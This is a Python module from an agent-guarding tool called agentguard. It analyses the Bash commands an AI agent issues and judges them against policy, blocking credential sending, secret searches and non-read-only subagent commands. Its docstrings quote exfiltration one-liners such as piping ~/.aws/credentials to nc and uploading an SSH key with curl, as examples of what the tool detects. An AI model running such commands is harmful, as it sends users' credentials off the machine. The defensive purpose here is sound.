"""Bridge from a Bash call to the shell analyser. Hot path (imported for Bash calls only).

The analyser finds every simple command the line will run; ``judge`` applies the
policy's command rules and the built-in floors, and sends every file the line reads,
writes or deletes through the very path judgement Write/Edit/Read get.
"""

from __future__ import annotations

import os

from agentguard.decision import ALLOW, DENY, Match
from agentguard.engine import paths, search, unknown
from agentguard.engine.pathnames import normalise
from agentguard.engine.patterns import deciding_pattern
from agentguard.shell import Context, analyse, judge
from agentguard.shell.catalogue import PROGRAMS
from agentguard.shell.listed import with_lists

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Sequence

    from agentguard.engine.call import Call
    from agentguard.engine.paths import Context as PathContext
    from agentguard.shell.model import Analysis, SimpleCommand


def context_for(call: Call) -> Context:
    """Who acts, for judging merges and ref moves."""
    policy = call.policy
    integration = policy.get("integration")
    branches = {
        name: branch
        for name, spec in policy["agents"].items()
        if (branch := spec.get("branch")) and not any(c in branch for c in "*?[")
    }
    return Context(
        agent=call.identity.agent,
        branch=call.identity.branch,
        integration_branch=integration["branch"] if integration else None,
        integration_owner=integration["owner"] if integration else None,
        agent_branches=branches,
    )


def analyse_call(command: str, call: Call) -> Analysis:
    """The analysis of ``command`` as ``call`` runs it: in its folder, with its
    environment, the policy's declared programs and its name lists (what the hook and
    explain judge)."""
    policy = call.policy
    known = with_lists(policy.get("programs"), policy)
    programs = None
    if known:
        from agentguard.shell.declared import for_worktree

        programs = for_worktree(known, call.paths.worktree)
    return analyse(command, call.cwd, call.env, programs=programs)


def judge_command(command: str, call: Call) -> tuple[list[Match], list[str]]:
    """Every match about the command line ``command`` (grants mark an explicit allow),
    and the commands that run through a privilege wrapper (no grant may cover them)."""
    analysis = analyse_call(command, call)

    def judge_path(path: str, mode: str) -> list[Match]:
        return paths.judge(path, mode, call.cwd, call.paths)

    judgement = judge(analysis, call.policy["commands"], judge_path, context_for(call))
    matches = list(judgement)
    matches.extend(sending(analysis, call))
    matches.extend(unknown.matches(analysis, call.paths))
    if call.paths.subagents:
        matches.extend(_subagent_commands(analysis, call))
    for cmd in analysis.commands:
        selection = _search_filter(cmd.program, cmd.argv)
        if selection is None:
            continue
        folders = [target for target in cmd.reads if os.path.isdir(target)]
        for target in folders:
            matches.extend(search.filtered_secrets(target, call.cwd, call.paths, selection))
        if not folders:
            # ``rg -g .env TOKEN`` searches the cwd (or stdin): the glob still names secrets.
            matches.extend(search.named_secrets(selection, call.paths))
    if judgement.explicit_allow:
        for match in matches:
            match.grant = match.decision == ALLOW
    else:
        for match in matches:
            match.grant = False
    if not matches:
        decision = call.policy["defaults"]["unknown_command"]
        if decision != ALLOW:
            matches.append(
                Match(
                    "unknown-command",
                    decision,
                    "No rule covers this command.",
                    what=command[:200],
                    fix="Add it to the policy's commands if it is expected.",
                )
            )
    return matches, list(judgement.privileged)


def sending(analysis: Analysis, call: Call) -> list[Match]:
    """What a line sends away: credentials it reads, in a line that also reaches the network.

    A file's path class with ``send`` decides it (``curl -T ~/.ssh/id_rsa``, ``cat
    ~/.aws/credentials | nc host``), except a file a network program only authenticates
    with (the catalogue's ``credential_options``: ``ssh -i KEY``, ``curl --cert FILE``).
    A command rule with ``builtin`` and ``send`` decides its class's output when another
    command of the line reaches the network (``gh auth token | curl -d @- …``).
    """
    network = [cmd for cmd in analysis.commands if "network" in cmd.classes]
    if not network:
        return []
    out: list[Match] = []
    if any(cls.get("send") for cls in call.policy["paths"]):
        for cmd in analysis.commands:
            used = _authenticates_with(cmd, call) if "network" in cmd.classes else set()
            for target in cmd.reads:
                if target not in used:
                    out.extend(_sent(target, cmd.cwd or call.cwd, call.paths))
    for rule in call.policy["commands"]:
        decision = rule.get("send")
        if not decision or decision == ALLOW or not rule["builtin"]:
            continue
        for cmd in analysis.commands:
            if rule["builtin"] in cmd.classes and any(n is not cmd for n in network):
                out.append(
                    Match(
                        rule["id"],
                        decision,
                        (rule["justification"] or f"{rule['builtin']} needs a human.")
                        + " This line would send what it reads over the network.",
                        what=cmd.text[:200],
                        fix="Keep credentials local: ask a human to run the command.",
                    )
                )
    return out


def _sent(raw: str, cwd: str, ctx: PathContext) -> list[Match]:
    """What sending ``raw`` away decides: every path class with ``send`` that matches it.

    The Bash judgement asks this for a file a line reads when the line also reaches the
    network; the class's ``send`` decision stands beside its ``read`` one.
    """
    # Case folds as it does for the read judgement: the same file, however it is spelt.
    fold = paths.folds_case(ctx)
    out: list[Match] = []
    for path in normalise(raw, cwd, ctx.home_dir):
        rel = paths.worktree_rel(path, ctx)
        subject = rel if rel else path.lstrip("/")
        for cls in ctx.policy["paths"]:
            decision = cls.get("send")
            if not decision or decision == ALLOW:
                continue
            # A folder sent whole (tar, rsync -a, scp -r) sends what its patterns cover.
            pattern = deciding_pattern(cls["patterns"], subject, fold)
            if pattern is None:
                pattern = deciding_pattern(cls["patterns"], subject + "/.", fold)
            if pattern is not None:
                out.append(
                    Match(
                        cls["id"],
                        decision,
                        (cls["justification"] or f"{cls['id']} paths are guarded.")
                        + " This line would send one off the machine.",
                        what=f"send {rel or path} (matches {pattern!r}) over the network",
                        fix="Keep credentials local: ask a human to run the command.",
                    )
                )
        if out:
            break
    return out


def _authenticates_with(cmd: SimpleCommand, call: Call) -> set[str]:
    """The files ``cmd`` names as its own credentials (``ssh -i KEY``): used, not sent."""
    spec = PROGRAMS.get(os.path.basename(cmd.argv[0]) if cmd.argv else "", {})
    options = str(spec.get("credential_options", "")).split()
    if not options:
        return set()
    values: list[str] = []
    argv = cmd.argv
    for i, word in enumerate(argv[1:], 1):
        if word in options and i + 1 < len(argv):
            values.append(argv[i + 1])
        elif word.startswith("--") and word.split("=", 1)[0] in options and "=" in word:
            values.append(word.split("=", 1)[1])
        elif not word.startswith("--") and len(word) > 2 and word[:2] in options:
            values.append(word[2:])
    cwd = cmd.cwd or call.cwd
    return {form for value in values for form in normalise(value, cwd, call.paths.home_dir)}


def _subagent_commands(analysis: Analysis, call: Call) -> list[Match]:
    """The caller's subagent sections on each simple command: deny and ask, never a grant.

    Judged apart from the parent's rules, so that a parent's allow pattern cannot
    cover a subagent's deny; the parent's matches stand beside these.
    """
    out: list[Match] = []
    for kind, spec in call.paths.subagents:
        rules = spec["commands"]
        if rules:
            ids = {rule["id"] for rule in rules}
            out.extend(m for m in judge(analysis, rules) if m.rule in ids and m.decision != ALLOW)
        if spec["read_only"]:
            # A line that does not parse is not known to be read-only either.
            unknown = [f"unparseable: {e}" for e in analysis.errors][:1]
            unknown += [cmd.text for cmd in analysis.commands if "read-only" not in cmd.classes]
            for what in unknown:
                out.append(
                    Match(
                        "subagent",
                        DENY,
                        f"Subagents of type {kind!r} are read-only under this policy: they"
                        " run only commands agentguard knows to be read-only.",
                        what=what[:200],
                        fix="Report the command to the parent agent, which may run it.",
                    )
                )
    return out


def _search_filter(program: str, argv: Sequence[str]) -> search.Filter | None:
    """For a recursive search, what its file filters select; None when it is not one.

    GNU grep -r reads every file below the folder (dot-files too) that its
    ``--include``/``--exclude`` select; ripgrep and its kin skip hidden files unless
    --hidden (or -uu) says otherwise, and rg/ugrep narrow by ``-g`` and ``-t``.
    """
    name = program.rsplit("/", 1)[-1]
    flags = [a for a in argv[1:] if a.startswith("-")]
    kind = PROGRAMS.get(name, {}).get("search")
    if kind == "grep":
        recursive = any(
            a in ("--recursive", "--dereference-recursive")
            or (not a.startswith("--") and ("r" in a[1:] or "R" in a[1:]))
            for a in flags
        )
        return search.grep_filter(argv) if recursive else None
    if kind == "ripgrep":
        hidden = any(a in ("--hidden", "-.", "-uu", "-uuu") for a in flags)
        if name in ("rg", "ugrep"):
            return search.rg_filter(argv, hidden)
        return search.Filter(rg=True, hidden=hidden)
    return None
